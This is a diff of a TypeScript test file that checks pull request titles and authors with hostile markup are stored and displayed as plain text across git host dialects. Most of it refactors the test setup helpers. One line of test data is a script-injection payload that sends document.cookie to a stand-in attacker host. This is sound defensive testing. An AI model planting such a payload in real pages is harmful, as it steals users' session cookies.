@@ -1,9 +1,10 @@
 // Titles and authors of pull requests that want to be more than text: they are stored and answered as text, by every git host.
-import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+import { describe, expect, test } from 'vitest'
 import { databases } from '../../../test/databases.ts'
 import { deliverAs, dialects } from '../../../test/git-host-dialects.ts'
-import { buildHookedProject, type HookedProject, stateOf } from '../../../test/git-host-events.ts'
-import { openTestApp, type TestApp } from '../../../test/test-app.ts'
+import { buildHookedProject, stateOf } from '../../../test/git-host-events.ts'
+import { builtBeforeAll } from '../../../test/stage/built-before.ts'
+import { stageApp } from '../../../test/stage/stage-app.ts'
 
 const shownAsSent = [
   "<script>fetch('//attacker.test/'+document.cookie)</script>",
@@ -31,21 +32,13 @@ const shownOtherwise: readonly (readonly [string, string])[] = [
 ]
 
 describe.each(databases)('hostile words on $name', (source) => {
-  let app: TestApp
-
-  beforeAll(async () => {
-    app = await openTestApp(source)
-  })
-  afterAll(() => app.close())
+  const app = stageApp(source)
 
   describe.each(dialects)('of $name', (dialect) => {
-    let project: HookedProject
+    const { repository_host } = dialect
+    const overrides = { repository_host, environment_limit: 1000 }
+    const project = builtBeforeAll(() => buildHookedProject(app.ctx, overrides))
     let number = 0
-
-    beforeAll(async () => {
-      const { repository_host } = dialect
-      project = await buildHookedProject(app.ctx, { repository_host, environment_limit: 1000 })
-    })
 
     const open = async (news: Parameters<typeof dialect.pullRequest>[0]) => {
       number += 1
